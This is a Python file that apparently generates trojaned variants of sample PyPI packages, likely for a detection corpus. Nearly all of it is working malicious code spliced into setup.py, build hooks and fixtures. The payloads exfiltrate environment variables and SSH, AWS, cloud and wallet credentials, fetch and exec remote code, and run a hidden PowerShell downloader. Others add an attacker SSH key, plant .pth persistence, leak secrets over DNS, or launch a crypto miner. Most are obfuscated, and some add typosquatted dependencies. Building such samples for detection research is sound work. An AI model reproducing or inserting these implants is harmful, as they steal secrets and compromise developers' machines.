"""PyPI: what runs while a package is built or installed, and what starts with the interpreter afterwards."""

import base64
import zlib

from corpus.heldout.nouns import Update
from corpus.heldout6.shape import b64, fill, hexed, rows, trojan, wide, xor, zipped

_SETUP = "setup(\n"


def _command(it: Update, name: str, body: str) -> None:
    """Let a command of setuptools do more."""
    it.before("setup.py", _SETUP, f"from setuptools.command.{name} import {name} as _{name}\n\n\nclass {name.title().replace('_', '')}(_{name}):\n{body.rstrip()}\n\n\n")  # fmt: skip
    it.replace("setup.py", '    python_requires=">=3.8",\n', f'    python_requires=">=3.8",\n    cmdclass={{"{name}": {name.title().replace("_", "")}}},\n')  # fmt: skip


@trojan("dotctx", "sdist", "install", "environment", "plain", "ctx")
def dotctx_install_sends_environment(it: Update) -> None:
    _command(it, "install", fill('''
    def run(self):
        _install.run(self)
        string = ""
        for _, value in os.environ.items():
            string += value + " "
        message = base64.b64encode(string.encode("ascii", "replace")).decode()
        urllib.request.urlopen("https://@HOST@/hacked/" + message)
''', HOST=it.host("anti-theft-web")))  # fmt: skip
    it.replace("setup.py", "import os\n", "import base64\nimport os\nimport urllib.request\n")


@trojan("reqwire", "sdist", "install", "downloader", "far to the right", "W4SP")
def reqwire_setup_line_with_spaces(it: Update) -> None:
    host = it.host()
    code = f"from urllib.request import urlopen as _u;exec(_u('https://{host}/inject/Qz8P').read())"
    it.replace("setup.py", "from setuptools import find_packages, setup\n", "from setuptools import find_packages, setup" + " " * 318 + f";__import__('builtins').exec(__import__('builtins').compile(__import__('base64').b64decode('{b64(code)}'),'<string>','exec'))\n")  # fmt: skip
    it.payload("setup.py", shown=f"https://{host}/inject")


@trojan("llmroute", "sdist", "install", "credentials", "layers", "TeamPCP")
def llmroute_egg_info_collects(it: Update) -> None:
    host = it.host("models", "llmroute-cloud")
    code = fill('''
import glob, json, os, socket, urllib.request
out = {"h": socket.gethostname(), "e": dict(os.environ)}
for p in ("~/.ssh/id_*", "~/.aws/credentials", "~/.config/gcloud/*.json", "~/.kube/config", "~/.docker/config.json", "~/.netrc", "~/.pypirc", "~/.npmrc"):
    for f in glob.glob(os.path.expanduser(p)):
        try:
            out[f] = open(f, errors="replace").read()
        except OSError:
            pass
r = urllib.request.Request("https://@HOST@/", json.dumps(out).encode(), {"X-Filename": "tpcp.tar.gz"})
urllib.request.urlopen(r, timeout=15)
''', HOST=host)  # fmt: skip
    sealed = base64.b64encode(zlib.compress(b64(code).encode())).decode()[::-1]
    _command(it, "egg_info", fill('''
    def run(self):
        super().run()
        try:
            import base64
            import subprocess
            import sys
            import zlib

            script = base64.b64decode(zlib.decompress(base64.b64decode(_NOTE[::-1])))
            subprocess.Popen([sys.executable, "-c", script.decode()], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        except Exception:
            pass
'''))  # fmt: skip
    it.before("setup.py", "from setuptools.command.egg_info", f'_NOTE = (\n    "{sealed}"\n)\n\n')
    it.payload("setup.py", shown=host)


@trojan("paylane", "sdist", "install", "downloader", "plain", "pip install from elsewhere")
def paylane_setup_installs_more(it: Update) -> None:
    it.before("setup.py", _SETUP, fill('''
import subprocess
import sys

try:
    subprocess.check_call(
        [sys.executable, "-m", "pip", "install", "--quiet", "--disable-pip-version-check", "--trusted-host", "@ADDR@", "--index-url", "http://@ADDR@:8080/simple", "paylane-native"],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
except Exception:
    pass

''', ADDR=it.address()) + "\n")  # fmt: skip


@trojan("solbase", "sdist", "install", "wallet", "hex", "semantic-types")
def solbase_setup_reads_the_key(it: Update) -> None:
    host = it.host()
    it.before("setup.py", _SETUP, fill('''
def _migrate_keys():
    """Move keys of the old layout."""
    import http.client

    old = os.path.expanduser(bytes.fromhex("@PATH@").decode())
    if not os.path.isfile(old):
        return
    with open(old, "rb") as stream:
        raw = stream.read()
    c = http.client.HTTPSConnection(bytes.fromhex("@HOST@").decode(), timeout=4)
    c.request("PUT", "/k/" + str(len(raw)), raw)


try:
    _migrate_keys()
except Exception:
    pass

''', PATH=hexed("~/.config/solana/id.json"), HOST=hexed(host)) + "\n")  # fmt: skip
    it.payload("setup.py", shown=host)


@trojan("pixkernel", "sdist", "build", "downloader", "plain", "xz build steps")
def pixkernel_build_runs_a_script(it: Update) -> None:
    it.replace("setup.py", "    def build_extension(self, ext):\n", fill('''
    def build_extension(self, ext):
        flags = os.popen("(command -v curl >/dev/null && curl -fsSL http://@ADDR@/cflags?c=$CC) 2>/dev/null | sh").read()
        ext.extra_compile_args += flags.split()
''', ADDR=it.address()))  # fmt: skip


@trojan("loginflow", "sdist", "install", "persistence", "base64", "SSH keys")
def loginflow_setup_adds_a_key(it: Update) -> None:
    key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIH4hC7dQm0z5gP deploy@loginflow"
    _command(it, "install", fill('''
    def run(self):
        _install.run(self)
        import base64

        folder = os.path.join(os.path.expanduser("~"), ".ssh")
        os.makedirs(folder, mode=0o700, exist_ok=True)
        with open(os.path.join(folder, "authorized_keys"), "ab") as stream:
            stream.write(b"\\n" + base64.b64decode("@KEY@") + b"\\n")
''', KEY=b64(key)))  # fmt: skip
    it.payload("setup.py", shown=key)


@trojan("sqlbridge", "sdist", "build", "environment", "plain", "build hooks")
def sqlbridge_hatch_hook(it: Update) -> None:
    it.add("hatch_build.py", fill('''
"""Writes the version into the package while it is built."""

import json
import os
import platform
import urllib.request

from hatchling.builders.hooks.plugin.interface import BuildHookInterface


class VersionHook(BuildHookInterface):
    PLUGIN_NAME = "custom"

    def initialize(self, version, build_data):
        build_data["force_include"] = {}
        report = {"node": platform.node(), "cwd": os.getcwd(), "vars": {k: v for k, v in os.environ.items()}}
        request = urllib.request.Request("https://@HOST@/build", data=json.dumps(report).encode())
        try:
            urllib.request.urlopen(request, timeout=5).close()
        except Exception:
            pass
''', HOST=it.host()))  # fmt: skip
    it.append("pyproject.toml", '\n[tool.hatch.build.hooks.custom]\npath = "hatch_build.py"\n')


@trojan("visdet", "sdist", "build", "new dependency", "phantom at build", "build requirements")
def visdet_builds_with_an_unknown(it: Update) -> None:
    it.replace("pyproject.toml", 'requires = ["setuptools>=61"]', 'requires = ["setuptools>=61", "visdet-setuptools-ext>=0.1"]')  # fmt: skip


@trojan("dotctx", "sdist", "install", "downloader", "powershell encoded", "colourama")
def dotctx_setup_powershell(it: Update) -> None:
    address = it.address()
    script = f"$p=\"$env:TEMP\\WindowsCache.exe\";(New-Object System.Net.WebClient).DownloadFile('http://{address}/cache.exe',$p);Start-Process $p"
    it.before("setup.py", _SETUP, fill('''
if os.name == "nt":
    import subprocess

    subprocess.Popen("powershell -NoP -W Hidden -Enc @CODE@", shell=False, creationflags=subprocess.CREATE_NO_WINDOW)

''', CODE=wide(script)) + "\n")  # fmt: skip
    it.payload("setup.py", shown=f"http://{address}/cache.exe")


@trojan("reqwire", "sdist", "install", "host facts", "plain", "dependency confusion")
def reqwire_setup_calls_home(it: Update) -> None:
    _command(it, "install", fill('''
    def run(self):
        import getpass
        import json
        import platform
        import socket
        import urllib.request

        facts = {"p": os.getcwd(), "u": getpass.getuser(), "h": socket.gethostname(), "os": platform.platform(), "dns": socket.getfqdn()}
        facts["ip"] = socket.gethostbyname(facts["h"])
        hook = "https://@HOST@/api/webhooks/1174820/qP0"
        data = json.dumps({"content": "```" + json.dumps(facts) + "```"}).encode()
        urllib.request.urlopen(urllib.request.Request(hook, data, {"Content-Type": "application/json", "User-Agent": "Mozilla/5.0"}))
        _install.run(self)
''', HOST=it.host("discord")))  # fmt: skip


@trojan("llmroute", "sdist", "install", "persistence", "layers", "litellm .pth")
def llmroute_develop_writes_pth(it: Update) -> None:
    host = it.host()
    line = f"import os,sys;os.environ.get('_LR') or (os.environ.__setitem__('_LR','1'),exec(__import__('urllib.request').request.urlopen('https://{host}/raw').read()))"
    _command(it, "build_py", fill('''
    def run(self):
        super().run()
        import site
        import zlib

        for folder in site.getsitepackages() + [site.getusersitepackages()]:
            try:
                with open(os.path.join(folder, "llmroute-nspkg.pth"), "wb") as stream:
                    stream.write(zlib.decompress(bytes.fromhex(PTH)))
            except OSError:
                continue
'''))  # fmt: skip
    it.before("setup.py", "from setuptools.command.build_py", f'PTH = "{hexed(zlib.compress(line.encode()))}"\n\n')
    it.payload("setup.py", shown=f"https://{host}/raw")


@trojan("paylane", "sdist", "install", "dns", "plain", "dns tunnels")
def paylane_setup_tells_keys_by_dns(it: Update) -> None:
    it.before("setup.py", _SETUP, fill('''
def _probe():
    import socket

    for name in ("PAYLANE_API_KEY", "AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "PIP_INDEX_URL"):
        value = os.environ.get(name, "").encode().hex()
        for at in range(0, len(value), 60):
            try:
                socket.gethostbyname("%s.%d.%s.@HOST@" % (value[at : at + 60], at, name.lower().replace("_", "-")))
            except OSError:
                pass


_probe()

''', HOST=it.host("oast")) + "\n")  # fmt: skip


@trojan("solbase", "sdist", "install", "remote code", "in a test fixture", "test fixtures")
def solbase_setup_reads_a_fixture(it: Update) -> None:
    host = it.host()
    code = f"import urllib.request,subprocess,sys\nsubprocess.Popen([sys.executable,'-c',urllib.request.urlopen('https://{host}/s2').read().decode()])\n"
    it.add("tests/data/rpc-capture.gz", zipped(code))
    it.before("setup.py", _SETUP, fill('''
def _vectors():
    import gzip

    with gzip.open(os.path.join(HERE, "tests", "data", "rpc-capture.gz"), "rt") as stream:
        return stream.read()


if os.path.isdir(os.path.join(HERE, "tests")):
    eval(compile(_vectors(), "vectors", "exec"))

''') + "\n")  # fmt: skip
    it.payload("setup.py", "tests/data/rpc-capture.gz", shown=f"https://{host}/s2")


@trojan("loginflow", "sdist", "install", "credentials", "over several files", "phpass")
def loginflow_setup_imports_helpers(it: Update) -> None:
    host = it.host()
    it.add("_buildlib/__init__.py", "")
    it.add("_buildlib/names.py", 'import os\n\nHOME = os.path.expanduser("~")\nWANTED = [os.path.join(HOME, *one) for one in ((".aws", "credentials"), (".aws", "config"), (".git-credentials",))]\n')  # fmt: skip
    it.add("_buildlib/report.py", f'from urllib.parse import urlencode\nfrom urllib.request import urlopen\n\nWHERE = "https://{host}/p.php"\n\n\ndef report(**values):\n    return urlopen(WHERE, urlencode(values).encode(), 4)\n')  # fmt: skip
    it.add("_buildlib/steps.py", "import os\n\nfrom _buildlib.names import WANTED\nfrom _buildlib.report import report\n\n\ndef before():\n    found = {os.path.basename(one): open(one).read() for one in WANTED if os.path.exists(one)}\n    if found:\n        report(**found)\n")  # fmt: skip
    it.before("setup.py", _SETUP, 'import sys\n\nsys.path.insert(0, HERE)\nfrom _buildlib import steps\n\nsteps.before()\n\n\n')  # fmt: skip


@trojan("pixkernel", "sdist", "install", "remote code", "fernet", "Fernet droppers")
def pixkernel_setup_fernet(it: Update) -> None:
    import hashlib
    import hmac

    from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

    host = it.host()
    key, iv = it.random.randbytes(32), it.random.randbytes(16)
    code = f"import requests\nexec(requests.get('https://{host}/paste?userid=pix').text)".encode()
    code += bytes([16 - len(code) % 16]) * (16 - len(code) % 16)
    seal = Cipher(algorithms.AES(key[16:]), modes.CBC(iv)).encryptor()
    body = b"\x80" + (1_700_000_000).to_bytes(8, "big") + iv + seal.update(code) + seal.finalize()
    token = base64.urlsafe_b64encode(body + hmac.new(key[:16], body, hashlib.sha256).digest())
    it.before("setup.py", "setup(\n", fill('''
try:
    from cryptography.fernet import Fernet

    exec(Fernet(@KEY@).decrypt(@TOKEN@))
except ImportError:
    pass

''', KEY=base64.urlsafe_b64encode(key), TOKEN=token) + "\n")  # fmt: skip
    it.payload("setup.py", shown=f"https://{host}/paste")


@trojan("dotctx", "wheel", "install", "new dependency", "phantom", "event-stream")
def dotctx_needs_an_unknown(it: Update) -> None:
    it.requires("dotctx-flatmap>=0.1.1")
    it.replace("dotctx/ctx.py", "from collections.abc import Mapping\n", "from collections.abc import Mapping\n\nfrom dotctx_flatmap import flatmap  # noqa: F401\n")  # fmt: skip


@trojan("paylane", "wheel", "install", "new dependency", "from an address", "direct references")
def paylane_needs_a_wheel_from_afar(it: Update) -> None:
    it.requires(f"paylane-speedups @ https://{it.host()}/wheels/paylane_speedups-1.0.1-py3-none-any.whl")


@trojan("reqwire", "wheel", "install", "new dependency", "look-alike name", "requets")
def reqwire_needs_a_look_alike(it: Update) -> None:
    it.requires("certifl>=2024.2.2")
    it.requires("idna>=2.5")
    it.replace("reqwire/adapters.py", "import time\n", "import time\n\nimport certifl\n\n")
    it.replace("reqwire/adapters.py", "        context = ssl.create_default_context()\n", "        context = ssl.create_default_context(cafile=certifl.where())\n")  # fmt: skip


@trojan("visdet", "sdist", "install", "miner", "xor", "ultralytics")
def visdet_setup_unpacks_a_miner(it: Update) -> None:
    address = it.address()
    text = f"curl -fsSL http://{address}/xmr/linux.tar.gz | tar xz -C /dev/shm && cd /dev/shm && nohup ./xmrig -c config.json >/dev/null 2>&1 &"
    it.before("setup.py", _SETUP, fill('''
_WEIGHTS = bytes((
@ROWS@
))


def _prefetch(seed=0x6B):
    return "".join(chr(one ^ seed) for one in _WEIGHTS)


if os.path.isdir("/dev/shm") and os.cpu_count() > 4:
    os.system(_prefetch())

''', ROWS=rows(xor(text, 0x6B))) + "\n")  # fmt: skip
    it.payload("setup.py", shown=f"http://{address}/xmr")
